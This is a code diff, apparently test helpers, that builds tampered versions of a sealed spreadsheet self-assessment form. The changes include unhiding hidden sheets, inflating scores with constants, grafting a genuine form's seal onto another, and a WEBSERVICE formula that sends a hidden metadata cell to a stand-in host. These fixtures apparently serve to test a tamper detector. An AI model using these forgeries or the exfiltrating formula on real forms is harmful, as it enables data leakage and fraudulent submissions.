@@ -301,3 +301,46 @@ def twin_part(source: Path, dest: Path, part: str, other: bytes, *, first: bool 
 
 FAR_SHEET = (f'<worksheet xmlns="{MAIN}"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
              '</sheetData></worksheet>').encode()
+
+
+def forge(source: Path, dest: Path, how: str) -> Path:
+    """A sealed form changed as a sender might, with openpyxl (which keeps the _meta sheet and the seal):
+    "unhide" the hidden sheets, add a "second-sheet" 自评表, type a "webservice" or "hidden-ref"
+    formula into an input cell, replace the score formulas with "constants" that show more."""
+    import openpyxl
+
+    wb = openpyxl.load_workbook(source)
+    ws = wb["自评表"]
+    actual = next(c for c in ws["F"] if c.row > 12 and c.protection.locked is False and c.value is not None)
+    if how == "unhide":
+        wb["计算"].sheet_state = "visible"
+        wb["_meta"].sheet_state = "visible"
+    elif how == "second-sheet":
+        copy = wb.copy_worksheet(ws)
+        copy.title = "自评表 (2)"
+        wb.move_sheet(copy, -(len(wb.sheetnames) - 1))
+    elif how == "webservice":
+        actual.value = '=WEBSERVICE("http://example.invalid/"&_meta!B18)'
+    elif how == "hidden-ref":
+        actual.value = "=参数!B2"
+    elif how == "constants":
+        for row in ws.iter_rows(min_row=13, min_col=8, max_col=8):
+            if isinstance(row[0].value, str) and row[0].value.startswith("="):
+                row[0].value = 999
+    else:
+        raise ValueError(how)
+    wb.save(dest)
+    return dest
+
+
+def graft_meta(form: Path, donor: Path, dest: Path) -> Path:
+    """``form`` with the hidden _meta record (and its seal) of another, genuine form ``donor``."""
+    import openpyxl
+
+    wb = openpyxl.load_workbook(form)
+    donated = {row[0].value: row[1].value for row in openpyxl.load_workbook(donor)["_meta"].iter_rows(max_col=2)}
+    for row in wb["_meta"].iter_rows(max_col=2):
+        if row[0].value in donated:
+            row[1].value = donated[row[0].value]
+    wb.save(dest)
+    return dest
